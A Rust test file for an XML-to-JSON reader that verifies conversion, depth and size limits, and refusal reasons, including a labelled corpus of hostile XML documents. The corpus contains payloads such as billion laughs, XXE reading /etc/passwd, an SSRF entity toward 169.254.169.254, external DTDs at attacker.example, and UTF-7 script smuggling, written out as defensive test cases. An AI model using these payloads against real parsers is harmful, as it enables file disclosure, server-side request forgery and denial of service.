use std::time::{Duration, Instant};

use proptest::prelude::*;
use serde_json::json;

use super::*;

fn refused(document: &[u8]) -> BodyError {
    read(document).unwrap_err()
}

#[test]
fn documents_become_json_in_one_way() {
    let check = |document: &str, expected: Json| assert_eq!(read(document.as_bytes()).unwrap(), expected, "{document}");
    check(
        r#"<?xml version="1.0" encoding="UTF-8"?><alert id="7"><title>Disk full</title><host>a</host><host>b</host></alert>"#,
        json!({"alert": {"@id": "7", "title": "Disk full", "host": ["a", "b"]}}),
    );
    check("\u{feff}<a/>", json!({"a": ""}));
    check("<a>  x &amp; <b/> y&#x21; <![CDATA[<z>]]> </a>", json!({"a": {"b": "", "#text": "x &  y! <z>"}}));
    check("<a b='1'>t</a>", json!({"a": {"@b": "1", "#text": "t"}}));
    check("<a><b><c/></b><b/><b>x</b></a>", json!({"a": {"b": [{"c": ""}, "", "x"]}}));
    check("<n:a xmlns:n=\"urn:x\"><n:b/></n:a>", json!({"n:a": {"@xmlns:n": "urn:x", "n:b": ""}}));
    check("<a b=\"x\n y &lt;&#10;\"/>", json!({"a": {"@b": "x  y <\n"}}));
    check("<a>one\r\ntwo\rthree</a>", json!({"a": "one\ntwo\nthree"}));
    check("<é>ü</é>", json!({"é": "ü"}));
    check("<a><!-- said --><?do nothing?>x<!-- more --></a> <!-- end -->\n", json!({"a": "x"}));
}

#[test]
fn limits_are_exact_and_named() {
    let nested = |levels: usize| format!("{}{}", "<a>".repeat(levels), "</a>".repeat(levels));
    assert!(read(nested(DEPTH).as_bytes()).is_ok());
    let error = refused(nested(DEPTH + 1).as_bytes());
    assert!(error.detail.contains("64 levels") && error.path.starts_with("a.a."), "{error:?}");

    let wide = |elements: usize| format!("<a>{}</a>", "<b/>".repeat(elements - 1));
    assert!(read(wide(NODES).as_bytes()).is_ok());
    assert!(refused(wide(NODES + 1).as_bytes()).detail.contains("20000"));

    let text = format!("<a>{}</a>", "x".repeat(BYTES - 7));
    assert!(text.len() == BYTES && read(text.as_bytes()).is_ok());
    assert!(refused(format!("{text} ").as_bytes()).detail.contains("1024 KiB"));
    assert!(refused(b"").detail.contains("empty"));
    assert!(refused(b" \n ").detail.contains("empty"));
}

/// What the sandbox is handed has to stay within its parser's depth, whatever XML allows.
#[test]
fn repeated_elements_do_not_nest_beyond_the_sandbox() {
    let mut document = "<a/>".to_owned();
    for _ in 0..DEPTH - 1 {
        document = format!("<a>{document}<a/></a>");
    }
    assert!(refused(document.as_bytes()).detail.contains("96 levels"));
    let mut document = "<a/>".to_owned();
    for _ in 0..48 {
        document = format!("<a>{document}<a/></a>");
    }
    let read = read(document.as_bytes()).unwrap();
    assert!(levels(&read) <= JSON_DEPTH + 1);
    assert!(serde_json::from_str::<Json>(&read.to_string()).is_ok());
}

/// What a corpus entry comes to.
enum Fate {
    /// Refused, with this in the reason.
    Refused(&'static str),
    /// Read as data: what looks dangerous has no effect.
    Harmless(fn(&Json) -> bool),
}

use Fate::{Harmless, Refused as No};

/// X-22, ASVS 1.5.1: hostile documents. Each is answered with its reason, or is plain data, within a second and without
/// growing: nothing in it is expanded, fetched or run.
fn corpus() -> Vec<(&'static str, Vec<u8>, Fate)> {
    let text = |text: &str| text.as_bytes().to_vec();
    let laughs = (1..10)
        .map(|n| format!("<!ENTITY lol{n} \"{}\">", format!("&lol{};", n - 1).repeat(10)))
        .collect::<Vec<_>>()
        .concat();
    let utf16 = |big: bool| -> Vec<u8> {
        let units = "\u{feff}<?xml version=\"1.0\" encoding=\"UTF-16\"?><a/>".encode_utf16();
        units.flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() }).collect()
    };
    vec![
        (
            "billion laughs",
            text(&format!("<!DOCTYPE lolz [<!ENTITY lol0 \"lol\">{laughs}]><lolz>&lol9;</lolz>")),
            No("DOCTYPE"),
        ),
        (
            "quadratic blow-up",
            text(&format!("<!DOCTYPE a [<!ENTITY x \"{}\">]><a>{}</a>", "x".repeat(50_000), "&x;".repeat(1_000))),
            No("DOCTYPE"),
        ),
        (
            "external entity, file",
            text("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
            No("DOCTYPE"),
        ),
        (
            "external entity, network",
            text("<!DOCTYPE a [<!ENTITY x SYSTEM \"http://169.254.169.254/\">]><a>&x;</a>"),
            No("DOCTYPE"),
        ),
        ("external type definition", text("<!DOCTYPE a SYSTEM \"http://attacker.example/x.dtd\"><a/>"), No("DOCTYPE")),
        (
            "public type definition",
            text("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/x.dtd\"><html/>"),
            No("DOCTYPE"),
        ),
        (
            "parameter entity",
            text("<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://attacker.example/x\"> %x;]><a/>"),
            No("DOCTYPE"),
        ),
        ("entity that is itself", text("<!DOCTYPE a [<!ENTITY x \"&x;\">]><a>&x;</a>"), No("DOCTYPE")),
        ("attribute list with default", text("<!DOCTYPE a [<!ATTLIST a b CDATA \"forged\">]><a/>"), No("DOCTYPE")),
        ("empty type definition", text("<!DOCTYPE a><a/>"), No("DOCTYPE")),
        ("type definition in lower case", text("<!doctype a><a/>"), No("DOCTYPE")),
        ("type definition behind a comment", text("<!-- x --><!DOCTYPE a><a/>"), No("DOCTYPE")),
        ("type definition inside the root", text("<a><!DOCTYPE a></a>"), No("DOCTYPE")),
        ("type definition without an end", text("<!DOCTYPE a [<!ENTITY x \"y\">"), No("not finished")),
        ("entity without a definition", text("<a>&x;</a>"), No("none but amp")),
        ("entity in an attribute", text("<a b=\"&xxe;\"/>"), No("none but amp")),
        ("entity of HTML", text("<a>&nbsp;</a>"), No("none but amp")),
        (
            "XInclude",
            text(
                "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></a>",
            ),
            Harmless(|json| json["a"]["xi:include"]["@href"] == "file:///etc/passwd"),
        ),
        (
            "stylesheet instruction",
            text("<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.example/x.xsl\"?><a>x</a>"),
            Harmless(|json| *json == json!({"a": "x"})),
        ),
        (
            "schema location",
            text(
                "<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://attacker.example/x.xsd\"/>",
            ),
            Harmless(|json| json["a"]["@xsi:schemaLocation"].is_string()),
        ),
        ("deep nesting", text(&"<a>".repeat(50_000)), No("64 levels")),
        (
            "deep nesting of many names",
            text(&(0..5_000).map(|n| format!("<a{n}>")).collect::<Vec<_>>().concat()),
            No("64 levels"),
        ),
        (
            "attribute flood",
            text(&format!("<a {}/>", (0..30_000).map(|n| format!("a{n}=\"\" ")).collect::<Vec<_>>().concat())),
            No("20000"),
        ),
        (
            "namespace flood",
            text(&format!(
                "<a {}/>",
                (0..30_000).map(|n| format!("xmlns:n{n}=\"urn:{n}\" ")).collect::<Vec<_>>().concat()
            )),
            No("20000"),
        ),
        ("element flood", text(&format!("<a>{}</a>", "<b/>".repeat(100_000))), No("20000")),
        ("instruction flood", text(&format!("{}<a/>", "<?x?>".repeat(100_000))), No("20000")),
        ("comment flood", text(&format!("{}<a/>", "<!---->".repeat(100_000))), No("20000")),
        ("CDATA flood", text(&format!("<a>{}</a>", "<![CDATA[]]>".repeat(50_000))), No("20000")),
        ("one attribute of a megabyte", text(&format!("<a b=\"{}\"/>", "x".repeat(2 * BYTES))), No("1024 KiB")),
        (
            "reference flood",
            text(&format!("<a>{}</a>", "&lt;".repeat(200_000))),
            Harmless(|json| json["a"].as_str().is_some_and(|text| text.len() == 200_000)),
        ),
        (
            "one long name",
            text(&format!("<{0}></{0}>", "n".repeat(400_000))),
            Harmless(|json| json.as_object().is_some_and(|root| root.len() == 1)),
        ),
        ("attribute twice", text("<a b=\"1\" b=\"2\"/>"), No("attribute twice")),
        ("UTF-16, big end first", utf16(true), No("not UTF-8")),
        ("UTF-16, little end first", utf16(false), No("not UTF-8")),
        ("UTF-16 without a mark", utf16(false)[2..].to_vec(), No("U+0000")),
        (
            "UTF-7 that hides a tag",
            text("<?xml version=\"1.0\" encoding=\"UTF-7\"?><a>+ADw-script+AD4-</a>"),
            No("encoding"),
        ),
        ("another encoding declared", text("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a/>"), No("encoding")),
        ("overlong UTF-8", b"<a>\xc0\xbcscript\xc0\xbe</a>".to_vec(), No("not UTF-8")),
        ("a surrogate in UTF-8", b"<a>\xed\xa0\x80</a>".to_vec(), No("not UTF-8")),
        ("null byte", text("<a>x\0y</a>"), No("U+0000")),
        ("null byte in a name", text("<a\0b/>"), No("U+0000")),
        ("control character", text("<a>\u{1b}[2J</a>"), No("U+001B")),
        ("no character at all", text("<a>\u{ffff}</a>"), No("U+FFFF")),
        ("null by reference", text("<a>&#0;</a>"), No("names no character")),
        ("surrogate by reference", text("<a>&#xD800;</a>"), No("names no character")),
        ("reference with a sign", text("<a>&#+65;</a>"), No("names no character")),
        ("reference beyond Unicode", text("<a>&#x110000;</a>"), No("names no character")),
        ("ampersand alone", text("<a>a & b</a>"), No("ampersand")),
        ("comment in a name", text("<a<!-- -->b/>"), No("")),
        ("comment in a comment", text("<!-- a -- b --><a/>"), No("two hyphens")),
        ("comment without an end", text("<a><!-- "), No("not finished")),
        ("CDATA without an end", text("<a><![CDATA["), No("not finished")),
        ("end of CDATA in text", text("<a>]]></a>"), No("]]>")),
        ("element without an end", text("<a><b></a>"), No("another name")),
        ("document cut off", text("<a><b>x"), No("no end")),
        ("end without an element", text("<a/></b>"), No("never began")),
        ("two roots", text("<a/><b/>"), No("second root")),
        ("text behind the root", text("<a/>evil"), No("outside of the root")),
        ("text before the root", text("evil<a/>"), No("outside of the root")),
        ("CDATA outside", text("<![CDATA[x]]><a/>"), No("outside of the root")),
        ("declaration twice", text("<?xml version=\"1.0\"?><?xml version=\"1.0\"?><a/>"), No("behind the beginning")),
        ("declaration inside", text("<a><?xml version=\"1.0\"?></a>"), No("behind the beginning")),
        ("reserved instruction", text("<a><?XML x?></a>"), No("processing instruction")),
        ("XML 1.1", text("<?xml version=\"1.1\"?><a/>"), No("XML 1.0")),
        ("attribute without quotes", text("<a b=1/>"), No("name=\"value\"")),
        ("attribute without a value", text("<a b/>"), No("name=\"value\"")),
        ("attributes without a space", text("<a b=\"1\"c=\"2\"/>"), No("name=\"value\"")),
        ("tag in an attribute", text("<a b=\"<script>\"/>"), No("`<`")),
        ("name that begins with a digit", text("<1a/>"), No("proper name")),
        ("second byte order mark", text("\u{feff}\u{feff}<a/>"), No("byte order marks")),
        ("JSON announced as XML", text("{\"a\": 1}"), No("outside of the root")),
    ]
}

#[test]
#[expect(clippy::disallowed_methods, reason = "the time that passes outside is what is measured")]
fn hostile_documents_are_refused_with_their_reason_in_bounded_time() {
    let corpus = corpus();
    assert!(corpus.len() >= 30, "{}", corpus.len());
    for (name, document, fate) in corpus {
        let began = Instant::now();
        let result = read(&document);
        // Generous, because tests are not optimised and share the machine; in time these are milliseconds.
        assert!(began.elapsed() < Duration::from_secs(2), "{name} took {:?}", began.elapsed());
        match (result, fate) {
            (Err(error), No(reason)) => {
                assert!(error.detail.contains(reason), "{name}: {error:?}");
                assert!(error.detail.len() < 300 && error.path.chars().count() <= PATH_LIMIT, "{name}: {error:?}");
                assert!(!error.detail.chars().any(char::is_control), "{name}: {error:?}");
            }
            (Ok(json), Harmless(fits)) => assert!(fits(&json), "{name}: {json}"),
            (Ok(json), No(_)) => panic!("{name} was taken: {json}"),
            (Err(error), Harmless(_)) => panic!("{name} was refused: {error:?}"),
        }
    }
}

#[test]
fn a_refusal_names_line_column_and_path() {
    let error = refused(b"<alert>\n  <labels>\n    <a b=1/>\n  </labels>\n</alert>");
    assert!(error.detail.contains("line 3"), "{error:?}");
    assert_eq!(error.path, "alert.labels");
}

/// Pieces of which documents are made, so that the generator gets past the first character.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("<a>".to_owned()),
        Just("</a>".to_owned()),
        Just("<b c=\"d\"/>".to_owned()),
        Just("<![CDATA[".to_owned()),
        Just("]]>".to_owned()),
        Just("<!--".to_owned()),
        Just("-->".to_owned()),
        Just("<?p".to_owned()),
        Just("?>".to_owned()),
        Just("<!DOCTYPE a".to_owned()),
        Just("&amp;".to_owned()),
        Just("&#".to_owned()),
        Just("xmlns:".to_owned()),
        "[a-z<>&;\"'=/!?\\[\\] -]{0,6}",
        "\\PC{0,4}",
    ]
}

fn levels(value: &Json) -> usize {
    match value {
        Json::Array(list) => 1 + list.iter().map(levels).max().unwrap_or(0),
        Json::Object(object) => 1 + object.values().map(levels).max().unwrap_or(0),
        _ => 0,
    }
}

proptest! {
    /// Whatever comes, it is answered: no panic, and what is taken is bounded and survives its way to the sandbox.
    #[test]
    fn any_pieces_are_answered(pieces in prop::collection::vec(piece(), 0..40)) {
        let document = pieces.concat();
        if let Ok(json) = read(document.as_bytes()) {
            prop_assert!(levels(&json) <= JSON_DEPTH + 1);
            let again: Json = serde_json::from_str(&json.to_string()).unwrap();
            prop_assert_eq!(again, json);
        }
    }

    #[test]
    fn any_bytes_are_answered(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        let _ = read(&bytes);
    }
}
